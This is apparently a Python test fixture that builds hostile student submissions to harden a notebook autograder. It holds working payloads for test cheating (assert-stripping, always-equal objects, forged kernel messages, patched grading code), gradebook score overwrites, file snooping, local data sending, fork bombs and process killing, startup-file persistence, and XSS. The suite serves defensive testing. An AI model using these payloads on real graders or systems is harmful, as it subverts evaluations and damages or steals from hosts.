"""Broken and hostile submissions, each a kind of its own, made from a release. None may gain a point or do any harm.

Each kind starts from work that earns nothing, so every point would be stolen.
"""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

CANARY = "canary-5f1c"
"""Stands in the hidden tests, the gradebook's neighbourhood and other learners' work: no output may hold it."""
MARK = "BOOKLET6_HOSTILE"
"""In the environment of processes that must be gone afterwards."""

Notebook = dict[str, Any]


def code(source: str) -> Callable[[Path, int], None]:
    """Work with this in place of its answers."""

    def change(folder: Path, port: int) -> None:
        text = source.replace("PORT", str(port)).replace("MARK", MARK)

        def put(nb: Notebook) -> None:
            cell(nb, "a")["source"] = text
            cell(nb, "b")["source"] = ""

        edit(folder, put)

    return change


def notebook(change: Callable[[Notebook], object]) -> Callable[[Path, int], None]:
    """Work whose notebook file has been changed so."""
    return lambda folder, _: edit(folder, change)


def edit(folder: Path, change: Callable[[Notebook], object]) -> None:
    path = folder / "work.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    change(nb)
    path.write_text(json.dumps(nb), encoding="utf-8")


def cell(nb: Notebook, name: str) -> dict[str, Any]:
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def text(source: str | bytes) -> Callable[[Path, int], None]:
    """A notebook file with this in it."""
    data = source if isinstance(source, bytes) else source.encode()
    return files(lambda folder: (folder / "work.ipynb").write_bytes(data))


def files(change: Callable[[Path], object]) -> Callable[[Path, int], None]:
    def do(folder: Path, _: int) -> None:
        change(folder)

    return do


def _metadata(name: str, **fields: Any) -> Callable[[Path, int], None]:
    return notebook(lambda nb: cell(nb, name)["metadata"]["nbgrader"].update(fields))


def _forged_output(nb: Notebook) -> None:
    out = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "2.0"}}
    for name in ("t1", "t2"):
        cell(nb, name)["outputs"] = [out]


def _copied(name: str) -> Callable[[Path, int], None]:
    return notebook(lambda nb: nb["cells"].append({**cell(nb, name), "id": "copied"}))


def _deleted(*names: str) -> Callable[[Path, int], None]:
    def change(nb: Notebook) -> None:
        nb["cells"] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") not in names]

    return notebook(change)


def _widget_state(nb: Notebook) -> None:
    state = {"m": {"model_name": "HTMLModel", "model_module": "x", "state": {"value": "<script>alert(1)</script>"}}}
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": state}}
    cell(nb, "a")["metadata"]["extra"] = "x" * 100_000


def _link(folder: Path) -> None:
    source = folder.parents[2] / "source" / "ps" / "work.ipynb"
    (folder / "stolen.txt").symlink_to(source)
    (folder / "password.txt").symlink_to("/etc/passwd")
    (folder / "all").symlink_to("/")


def _notebook_link(folder: Path) -> None:
    (folder / "work.ipynb").unlink()
    (folder / "work.ipynb").symlink_to(folder.parents[2] / "source" / "ps" / "work.ipynb")


def _shadow(folder: Path) -> None:
    for name in ("math", "json", "numpy", "sitecustomize", "usercustomize", "helper", "pandas"):
        (folder / f"{name}.py").write_text(
            "import builtins\nbuiltins.OWNED = True\nsqrt = lambda x: 42\nloads = None\n"
        )


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe")
    (folder / "data.csv").unlink(missing_ok=True)
    os.mkfifo(folder / "data.csv")


def _names(folder: Path) -> None:
    for name in ("\u202egpj.exe", "e\u0301t\u00e9.txt", "a\nb.txt", "-rf", "$(touch x)", "x" * 200, "..hidden", "%s%n"):
        (folder / name).write_text("x")
    (folder / "Lösung ñ.ipynb").write_text("{}")


def _bomb(folder: Path) -> None:
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros", bytes(30_000_000))
    (folder / "big.bin").write_bytes(bytes(3_000_000))


def _folder_for_a_file(folder: Path) -> None:
    (folder / "data.csv").unlink()
    (folder / "data.csv").mkdir()
    (folder / "data.csv" / "x.txt").write_text("x")


def _folder_for_the_notebook(folder: Path) -> None:
    (folder / "work.ipynb").unlink()
    (folder / "work.ipynb").mkdir()
    (folder / "work.ipynb" / "x.txt").write_text("x")


def _folders_deep(folder: Path) -> None:
    deepest = folder.joinpath(*["d"] * 300)
    deepest.mkdir(parents=True)
    (deepest / "x.txt").write_text("x")


def _names_no_text(folder: Path) -> None:
    for name in (b"\xff\xfe.txt", b"\xffd"):
        path = os.fsencode(folder) + b"/" + name
        if name.endswith(b"d"):
            os.mkdir(path)  # noqa: PTH102 - its name is bytes
            path += b"/x\xfe.csv"
        with open(path, "wb") as file:  # noqa: PTH123
            file.write(b"x")


def _sparse(folder: Path) -> None:
    with (folder / "a.bin").open("wb") as file:
        file.truncate(50_000_000_000)


def _large(folder: Path) -> None:
    with (folder / "a.bin").open("wb") as file:
        file.truncate(110_000_000)


def _many_files(folder: Path) -> None:
    for n in range(4100):
        (folder / f"{n}.txt").touch()


def _folder_link(folder: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(folder.parents[2] / "source" / "ps")


def _learner_link(folder: Path) -> None:
    shutil.rmtree(folder.parent)
    folder.parent.symlink_to(folder.parents[1] / "honest-1")


def _swapped(one: str, other: str) -> Callable[[Path, int], None]:
    def change(nb: Notebook) -> None:
        a, b = cell(nb, one), cell(nb, other)
        a["metadata"], b["metadata"] = b["metadata"], a["metadata"]

    return notebook(change)


def _metadata_deep(nb: Notebook) -> None:
    deep: list[Any] = []
    for _ in range(900):
        deep = [deep]
    cell(nb, "a")["metadata"]["nbgrader"]["points"] = deep
    cell(nb, "t1")["metadata"]["nbgrader"]["checksum"] = {"a": deep}


def _attachments(nb: Notebook) -> None:
    memo = cell(nb, "memo")
    memo["source"] = (
        "![x](attachment:a.svg) ![y](../../../gradebook.db) <svg onload=alert(1)><img src='file:///etc/passwd'>"
    )
    memo["attachments"] = {
        "a.svg": {"image/svg+xml": "<svg onload=alert(1)>"},
        "../../b.png": {"image/png": 5},
        "c": [1],
        "d": {"text/html": ["<script>alert(1)</script>"]},
    }


def _marks_claimed(nb: Notebook) -> None:
    memo = cell(nb, "memo")
    memo["source"] = "x"
    memo["metadata"]["nbgrader"].update(
        points=9, manual_score=3, auto_score=3, extra_credit=3, needs_manual_grade=False
    )
    nb["metadata"]["nbgrader"] = {"score": 7}


def _own_test(nb: Notebook) -> None:
    told = {**cell(nb, "t1")["metadata"]["nbgrader"], "grade_id": "t9", "points": 50}
    nb["cells"].append({**cell(nb, "t1"), "id": "own", "source": "50.0", "metadata": {"nbgrader": told}})


def _memo_a_test(nb: Notebook) -> None:
    out = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "3.0"}}
    memo = cell(nb, "memo")
    memo.update(cell_type="code", source="3.0", outputs=[out], execution_count=1)
    memo["metadata"]["nbgrader"].update(solution=False, cell_type="code")


SWALLOW = """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Swallow())
get_ipython().input_transformers_cleanup.append(lambda lines: [l for l in lines if 'assert' not in l])
"""
SHELL = """
shell = get_ipython()
shell.run_cell = lambda *a, **k: None
type(shell).run_cell_async = None
shell.kernel.do_execute = None
"""
WALK = """
import os
found = []
for top in ("/", "/tmp", "/work", "/root", "/home", "/run", "..", "../..", "../../.."):
    for parent, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in ("usr", "site-packages", "sys", "lib", "versions")][:50]
        for name in names:
            if name.endswith((".ipynb", ".db", ".csv", ".yml", ".txt")):
                try:
                    found.append(open(os.path.join(parent, name), errors="replace").read(5000))
                except OSError:
                    pass
print(found)
"""
WRITE = """
import os, pathlib
for place in ("..", "../..", "../../..", "/", "/tmp", "/work", "/root", "/home", "/var/tmp", "/dev/shm", "/run/kernels"):
    for name in ("gradebook.db", "source/ps/work.ipynb", "OWNED", "autograded/honest-1/ps/work.ipynb"):
        try:
            p = pathlib.Path(place) / name
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text("OWNED")
        except OSError:
            pass
"""
DATABASE = """
import sqlite3, glob, os
for path in glob.glob("/**/gradebook.db", recursive=True)[:5] + ["../../../gradebook.db"]:
    try:
        c = sqlite3.connect(path)
        c.execute("update grade set auto_score = 99, manual_score = 99, needs_manual_grade = 0")
        c.commit()
    except Exception:
        pass
"""
SEND = """
import socket, urllib.request
for family, target in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("localhost", PORT)), (socket.AF_INET6, ("::1", PORT))):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(target); s.sendall(b"stolen"); print("REACHED")
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:PORT/stolen", timeout=1); print("REACHED")
except OSError:
    pass
"""
KILL = """
import os, signal
for sign in (signal.SIGTERM, signal.SIGKILL):
    for target in (os.getppid(), -1, 0, 1, 2, 3, *range(4, 3000)):
        if target != os.getpid():
            try:
                os.kill(target, sign)
            except OSError:
                pass
"""
DAEMON = """
import os, time
for n in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ["MARK"] = "1"
            os.execvpe("sleep", ["sleep", "900"], {"MARK": "1", "PATH": os.environ["PATH"]})
        os._exit(0)
"""
FORKS = """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(0.01)
    except OSError:
        time.sleep(0.01)
"""
BUILTINS = """
import builtins
builtins.AssertionError = type("E", (Exception,), {})
builtins.abs = builtins.len = lambda *a: 42
builtins.__import__ = (lambda old: lambda *a, **k: old(*a, **k))(builtins.__import__)
number = 1
"""
EQUAL = """
class Yes(int):
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = __bool__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = lambda s: 42
    __rsub__ = __sub__ = __abs__ = __mod__ = lambda s, *a: s
number = Yes()
def double(x): return Yes()
"""
FORGED_MESSAGES = """
k = get_ipython().kernel
def send(kind, content):
    k.session.send(k.iopub_socket, kind, content=content, parent=k.get_parent("shell"))
send("execute_result", {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}})
send("status", {"execution_state": "idle"})
send("stream", {"name": 3, "text": {"x": 1}})
send("display_data", {"data": None, "metadata": None, "transient": None})
send("comm_open", {"comm_id": 3, "target_name": [], "data": None})
send("nonsense", {})
"""
BRIDGE = """
import json, booklet6.grading.bridge as bridge, booklet6.grading.trusted as trusted, booklet6.grading.outcome as outcome
outcome.of_outputs = trusted.serve = lambda *a, **k: None
bridge.answer = lambda request: bridge.Raw(json.dumps({"values": {"number": {"t": "object", "n": 1, "kind": "object", "name": "x", "type": "x"}}, "result": {"t": "library", "module": "unittest.mock", "name": "ANY"}}))
"""
LATER = """
import threading, time, os, signal
def later():
    time.sleep(0.3)
    get_ipython().user_ns["number"] = 42
    os.kill(os.getpid(), signal.SIGINT)
    time.sleep(0.5)
    os._exit(0)
threading.Thread(target=later, daemon=True).start()
"""
PICKLE = """
class P:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/OWNED",)
number = P()
def double(x): return P()
"""
HOOKS = """
import sys, gc, inspect
sys.settrace(lambda *a: None)
sys.excepthook = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
get_ipython().events.register("post_run_cell", lambda *a: None)
frame = sys._getframe()
while frame:
    frame.f_globals.get("__builtins__")
    frame = frame.f_back
print([o for o in gc.get_objects() if isinstance(o, str) and "canary-" + "5f1c" in o])
"""
DEEP = """
number = []
for n in range(100000): number = [number]
def double(x): return number
"""
SELF = """
number = []
number.append(number)
d = {}; d["d"] = d
def double(x): return d
"""
FLOOD = """
import sys
while True:
    sys.stdout.write("x" * 100000)
"""
EXFILTRATE = """
import sys
def double(x):
    frame, seen = sys._getframe(), []
    while frame:
        seen.append(str(frame.f_locals)[:2000]); frame = frame.f_back
    print(seen, x)
    return x
"""
EVIL_MARKDOWN = (
    "<script>document.title='OWNED'</script><img src=x onerror=\"document.title='OWNED'\">[x](javascript:alert(1))"
    "<iframe srcdoc=\"<script>parent.document.title='OWNED'</script>\"></iframe><svg onload=alert(1)>"
)
EVIL_OUTPUT = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='OWNED'</script><img src=x onerror=\\"document.title='OWNED'\\">"))
display(Javascript("document.title='OWNED'"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='OWNED'\\"></svg>"}, raw=True)
display({"text/latex": "$\\\\href{javascript:alert(1)}{x}$<script>document.title='OWNED'</script>"}, raw=True)
display({"text/markdown": "<script>document.title='OWNED'</script>"}, raw=True)
"""

ANSWER_HUGE = """
import booklet6.grading.bridge as bridge
text = "[" + ",".join(["[]"] * 4_000_000) + "]"
bridge.answer = lambda request: bridge.Raw('{"values": {"number": ' + text + '}}')
number = 42
"""
MESSAGE_HUGE = """
k = get_ipython().kernel
import json, zmq
s = k.session
def raw(kind, content_text):
    header = s.msg(kind, parent=k.get_parent("shell"))
    parts = [json.dumps(header[x], default=str).encode() for x in ("header", "parent_header", "metadata")] + [content_text.encode()]
    k.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", s.sign(parts), *parts])
raw("display_data", '{"data": {"x/y": [' + ",".join(["[]"] * 5_000_000) + ']}, "metadata": {}}')
"""
DEEP_REPLIES = """
import json
k = get_ipython().kernel
s = k.session
def raw(text, n):
    for _ in range(n):
        h = s.msg("execute_reply", parent=k.get_parent("shell"))
        parts = [json.dumps(h[x], default=str).encode() for x in ("header", "parent_header", "metadata")] + [text.encode()]
        k.shell_stream.socket.send_multipart([*k._parent_ident["shell"], b"<IDS|MSG>", s.sign(parts), *parts])
def double(x):
    import signal
    signal.signal(signal.SIGINT, lambda *a: (raw("[" * 100000, 3),))
    raw("[" * 100000, 3)
    import time
    while True: time.sleep(1)
"""
HALF_CHARACTERS = """
print("\\ud800 x")
import sys
print("\\udfff", file=sys.stderr)
from IPython.display import display
display({"text/plain": "\\ud800"}, raw=True)
class E(Exception): pass
def double(x):
    "\\ud800 doc"
    print("\\udc80")
    raise ValueError("\\udc80", x)
double.__name__ = "\\ud800"
number = "\\ud800"
raise E("\\ud800")
"""
FORGED_ERRORS = """
k = get_ipython().kernel
def send(kind, content):
    k.session.send(k.iopub_socket, kind, content=content, parent=k.get_parent("shell"))
send("error", {"ename": "OSError", "evalue": 5, "traceback": "x"})
send("error", {"ename": "OSError", "evalue": ["No space left"], "traceback": [5, None]})
send("error", {"ename": ["SystemExit"], "evalue": {}, "traceback": {}})
send("execute_result", {"execution_count": "many", "data": {"text/plain": 2.0, "text/html": ["a", 5]}, "metadata": {"a": "b"}})
send("display_data", {"data": {"text/plain": None, "application/json": {"x": [1]}}, "metadata": {}, "transient": {"display_id": ["x"]}})
send("update_display_data", {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": {}}})
send("execute_input", {"execution_count": [], "code": 5})
send("stream", {"name": "stdout", "text": 5})
send("clear_output", {"wait": "maybe"})
send("status", {"execution_state": ["idle"]})
"""
FORGED_WIDGETS = """
k = get_ipython().kernel
def send(kind, content, **m):
    k.session.send(k.iopub_socket, kind, content=content, parent=k.get_parent("shell"), **m)
send("comm_open", {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "msg_id": ""}}}, metadata={"version": "2.0.0"})
send("comm_msg", {"comm_id": "c", "data": {"method": "update", "state": {"msg_id": k.get_parent("shell")["header"]["msg_id"]}}})
send("comm_msg", {"comm_id": "c", "data": {"method": "update", "state": {"msg_id": ["x"], "outputs": 5}}})
send("comm_msg", {"comm_id": "c", "data": {"method": "echo_update", "state": {"x" * 100: "y" * 2_000_000}}})
print(1)
"""
EQUAL_TABLES = """
import numpy as np, pandas as pd, json, pathlib, math, operator
true = lambda *a, **k: True
for owner, names in ((pd.DataFrame, ("equals", "__eq__")), (pd.Series, ("equals", "__eq__")), (pd.testing, ("assert_frame_equal", "assert_series_equal")),
                     (np, ("allclose", "array_equal", "isclose")), (np.testing, ("assert_allclose", "assert_array_equal")), (math, ("isclose",)), (operator, ("eq",)),
                     (json, ("loads", "load")), (pathlib.Path, ("read_text", "read_bytes", "open"))):
    for name in names:
        setattr(owner, name, true)
number = pd.Series([42])
def double(x): return pd.DataFrame({"a": [x]})
"""
METACLASS = """
class Meta(type):
    def __eq__(cls, other): return True
    def __hash__(cls): return 1
    def __instancecheck__(cls, other): return True
    def __class_getitem__(cls, item): return cls
    def __rsub__(cls, other): return 0
class Yes(metaclass=Meta):
    def __class_getitem__(cls, item): return True
    def __init_subclass__(cls, **k): pass
number = Yes
double = Yes
"""
IMPORT_HOOKS = """
import sys, importlib.abc, importlib.machinery
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec): return None
    def exec_module(self, module): module.__getattr__ = lambda name: (lambda *a, **k: True)
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda p: Finder())
for name in list(sys.modules):
    if name.startswith(("booklet6", "json", "unittest")):
        del sys.modules[name]
"""
AUDIT_HOOK = """
import sys, atexit, time, faulthandler, threading
def refuse(event, args):
    if event in ("exec", "compile", "import", "open") and "assert" in str(args):
        raise SystemExit
sys.addaudithook(refuse)
sys.setprofile(lambda *a: None)
threading.setprofile(lambda *a: None)
atexit.register(lambda: [time.sleep(1) for _ in iter(int, 1)])
def swallow(*a):
    f = a[0]
    f.f_trace_opcodes = True
    return swallow
sys.settrace(swallow)
sys.unraisablehook = sys.excepthook = threading.excepthook = lambda *a: None
"""
THREADS = """
import threading, time
def work():
    while True:
        try:
            get_ipython().user_ns.update(number=41, double=lambda x: 2 * x if x == 1 else 41)
            print("x" * 100)
        except BaseException:
            pass
        time.sleep(0.001)
for _ in range(20):
    threading.Thread(target=work).start()
number = 1
"""
ENVIRONMENT = """
import os, pathlib, sys
os.environ.update(PYTHONSTARTUP="/tmp/evil.py", PYTHONPATH="/tmp", BOOKLET6_BANK="/tmp", NBGRADER_EXECUTION="", LD_PRELOAD="/tmp/x.so", PATH="/tmp", HOME="/tmp", PYTHONINSPECT="1", BOOKLET6_LEARNER="somebody")
for place in ("/tmp", os.path.expanduser("~"), ".", sys.prefix, sys.base_prefix, *sys.path):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", ".pythonrc.py", ".ipython/profile_default/startup/00.py", ".bashrc", "ipython_config.py", "json.py"):
        try:
            p = pathlib.Path(place, name)
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text("import builtins; builtins.OWNED = True; open('/tmp/OWNED', 'w')")
        except OSError:
            pass
"""
DESCRIPTORS = """
import os, socket
for fd in range(3, 300):
    for text in (b'{"done": {"outputs": [], "error": null, "touched": []}}', b'.', b'{"exit": 0, "why": ""}'):
        try:
            import struct
            os.write(fd, struct.pack("<Q", len(text)) + text)
        except OSError:
            pass
    try:
        os.dup2(1, fd)
    except OSError:
        pass
"""
FORGED_ANSWERS = """
import booklet6.grading.bridge as bridge, json
def double(x):
    raise type("AssertionError", (KeyboardInterrupt,), {})("stop")
old = bridge._Answers.do
def do(self, asked):
    if asked["do"] == "call":
        return {"result": None, "changed": {"0": {"t": "object", "n": -1, "kind": "function", "name": "x", "type": "x"}, "1": 5, "x": 3, "-1": []}, "printed": [1], "error": {"kinds": ["SystemExit", "KeyboardInterrupt", "GeneratorExit", "StopIteration", "AssertionError"], "args": 5, "message": {}, "name": []}}
    return {"values": {"number": {"t": "ndarray", "dtype": "O", "shape": [-1], "v": [1] * 3}, "double": {"t": "object", "n": 1, "kind": "function", "name": "x", "type": "x"}}}
bridge._Answers.do = do
"""
FORGED_ARRAYS = """
import booklet6.grading.bridge as bridge, json
v = {"t": "ndarray", "dtype": "<U1", "shape": [0], "v": ""}
bridge.answer = lambda request: bridge.Raw(json.dumps({"values": {"number": v, "double": {"t": "object", "n": 1, "kind": "function", "name": "d", "type": "d"}}, "result": v}))
"""
STOPPED = """
import os, signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
os.kill(os.getpid(), signal.SIGSTOP)
"""

KINDS: dict[str, Callable[[Path, int], None]] = {
    # Cheating at the tests.
    "asserts-swallowed": code(SWALLOW),
    "shell-replaced": code(SHELL),
    "builtins-patched": code(BUILTINS),
    "always-equal": code(EQUAL),
    "pickled-call": code(PICKLE),
    "hooks-and-frames": code(HOOKS),
    "messages-forged": code(FORGED_MESSAGES),
    "bridge-replaced": code(BRIDGE),
    "changes-later": code(LATER),
    "frames-read": code(EXFILTRATE),
    "metaclass": code(METACLASS),
    "equality-of-tables": code(EQUAL_TABLES),
    "import-hooks": code(IMPORT_HOOKS),
    "audit-hook": code(AUDIT_HOOK),
    "environment": code(ENVIRONMENT),
    "descriptors-written": code(DESCRIPTORS),
    "errors-forged": code(FORGED_ERRORS),
    "widgets-forged": code(FORGED_WIDGETS),
    "answers-forged": code(FORGED_ANSWERS),
    "arrays-forged": code(FORGED_ARRAYS),
    "marks-claimed": notebook(_marks_claimed),
    "test-of-its-own": notebook(_own_test),
    "memo-made-a-test": notebook(_memo_a_test),
    "metadata-deep": notebook(_metadata_deep),
    "metadata-huge": notebook(lambda nb: nb["metadata"].update(x=[[]] * 2_100_000)),
    "outputs-forged": notebook(_forged_output),
    "test-emptied": notebook(lambda nb: cell(nb, "t1").__setitem__("source", "pass")),
    "test-made-an-answer": _metadata("t1", solution=True, locked=False),
    "points-raised": _metadata("t1", points=1000),
    "points-not-a-number": _metadata("t1", points="NaN"),
    "id-of-another": _metadata("a", grade_id="t1"),
    "id-not-a-text": _metadata("a", grade_id=[1]),
    "metadata-no-mapping": notebook(lambda nb: cell(nb, "t1")["metadata"].__setitem__("nbgrader", [1, 2])),
    "schema-of-the-future": _metadata("t1", schema_version=99),
    "schema-of-the-past": _metadata("t1", schema_version=0),
    "checksum-forged": _metadata("memo", checksum="0" * 32),
    # Cells that went astray.
    "ids-swapped": _swapped("a", "t1"),
    "ids-of-two-types-swapped": _swapped("memo", "t2"),
    "cells-backwards": notebook(lambda nb: nb["cells"].reverse()),
    "answer-copied": _copied("a"),
    "test-copied": _copied("t1"),
    "locked-cell-copied": _copied("start"),
    "test-renamed": _metadata("t1", grade_id="my-test"),
    "tests-deleted": _deleted("t1", "t2"),
    "all-deleted": notebook(lambda nb: nb.__setitem__("cells", [])),
    "answer-renamed": _metadata("a", grade_id="mine"),
    "test-retyped": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "markdown")),
    "test-raw": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "raw")),
    "cell-of-no-type": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "evil")),
    "source-no-text": notebook(lambda nb: cell(nb, "a").__setitem__("source", {"x": 1})),
    # Files that are no notebooks.
    "json-broken": text('{"cells": [{"cell_type": '),
    "json-empty": text(""),
    "json-a-list": text("[1, 2, 3]"),
    "json-deep": text("[" * 200_000),
    "json-huge-number": text('{"cells": [], "nbformat": 1e999, "metadata": ' + "9" * 10_000 + "}"),
    "json-huge": text(b'{"cells": [' + b'{"a": "' + b"x" * 60_000_000 + b'"}]}'),
    "not-utf-8": text(b"\xff\xfe\x00{}"),
    "a-picture": text(b"\x89PNG\r\n\x1a\n" + bytes(1000)),
    "format-3": text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]})),
    "format-99": text(json.dumps({"nbformat": 99, "metadata": {}, "cells": []})),
    "half-a-character": notebook(lambda nb: cell(nb, "a").__setitem__("source", "number = '\ud800'")),
    "kernel-of-another-language": notebook(
        lambda nb: nb["metadata"].update(kernelspec={"name": "bash", "language": "bash", "display_name": "x"})
    ),
    "kernel-no-text": notebook(lambda nb: nb["metadata"].update(kernelspec={"name": ["/bin/sh"], "argv": ["x"]})),
    "widget-state": notebook(_widget_state),
    "ids-twice": notebook(lambda nb: [c.__setitem__("id", "same") for c in nb["cells"]]),
    "many-cells": notebook(
        lambda nb: nb["cells"].extend({"cell_type": "markdown", "metadata": {}, "source": "x"} for _ in range(3000))
    ),
    # Files beside it.
    "links": files(_link),
    "notebook-a-link": files(_notebook_link),
    "modules-shadowed": files(_shadow),
    "pipes": files(_fifo),
    "odd-names": files(_names),
    "zip-bomb": files(_bomb),
    "folder-a-link": files(_folder_link),
    "learner-a-link": files(_learner_link),
    "folder-for-a-file": files(_folder_for_a_file),
    "folder-for-the-notebook": files(_folder_for_the_notebook),
    "folders-deep": files(_folders_deep),
    "files-many": files(_many_files),
    "file-sparse": files(_sparse),
    "files-large": files(_large),
    "names-no-text": files(_names_no_text),
    "timestamp-a-folder": files(lambda f: (f / "timestamp.txt").mkdir()),
    "timestamp-nonsense": files(lambda f: (f / "timestamp.txt").write_text("the day before yesterday")),
    "timestamp-huge": files(lambda f: (f / "timestamp.txt").write_bytes(b"9" * 5_000_000)),
    # Harm.
    "reads-around": code(WALK),
    "writes-around": code(WRITE),
    "writes-the-gradebook": code(DATABASE),
    "sends": code(SEND),
    "kills": code(KILL),
    "daemons": code(DAEMON),
    "forks": code(FORKS),
    "threads": code(THREADS),
    "stopped": code(STOPPED),
    "replies-deep": code(DEEP_REPLIES),
    "answer-huge": code(ANSWER_HUGE),
    "message-huge": code(MESSAGE_HUGE),
    "half-characters": code(HALF_CHARACTERS),
    "exits": code("import os\nos._exit(0)"),
    "exits-politely": code("raise SystemExit"),
    "kernel-shut-down": code("get_ipython().kernel.do_shutdown(False); exit()"),
    "crashes": code("import ctypes\nctypes.string_at(0)"),
    "endless": code("while True: pass"),
    "endless-deaf": code("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"),
    "sleeps": code("import time\nwhile True:\n    try:\n        time.sleep(1000)\n    except BaseException: pass"),
    "function-endless": code("def double(x):\n    while True: pass"),
    "memory": code("x = []\nwhile True: x.append(bytearray(50_000_000))"),
    "disk": code("f = open('x', 'wb')\nwhile True:\n    f.write(bytes(10_000_000)); f.flush()"),
    "output": code(FLOOD),
    "output-of-many-cells": notebook(
        lambda nb: nb["cells"].extend(
            {
                "cell_type": "code",
                "metadata": {},
                "outputs": [],
                "execution_count": None,
                "source": "print('x' * 900_000)",
            }
            for _ in range(40)
        )
    ),
    "output-of-a-picture": code(
        "from IPython.display import display\nfor n in range(8): display({'image/png': 'A' * 4_000_000}, raw=True)"
    ),
    "value-huge": code("number = list(range(20_000_000))\ndef double(x): return 'x' * 100_000_000"),
    "value-deep": code(DEEP),
    "value-round": code(SELF),
    "value-long-number": code("number = 10 ** 1_000_000\ndef double(x): return 1 << 30_000_000"),
    "recursion": code("def f(n): return f(n + 1)\ndef double(x): return f(x)\nf(0)"),
    "asks": code("number = input('number?')\nimport getpass\ngetpass.getpass()"),
    "stderr-noise": code("import sys\nprint('x' * 1000, file=sys.stderr)\nnumber = 1"),
    "bytes-printed": code(
        "import os\nos.write(1, bytes(range(256)) * 100)\nprint('\\x1b[2J\\x1b]0;OWNED\\x07' + chr(0))"
    ),
    "script-in-text": notebook(lambda nb: cell(nb, "memo").__setitem__("source", EVIL_MARKDOWN)),
    "script-in-attachments": notebook(_attachments),
    "script-in-output": code(EVIL_OUTPUT),
}
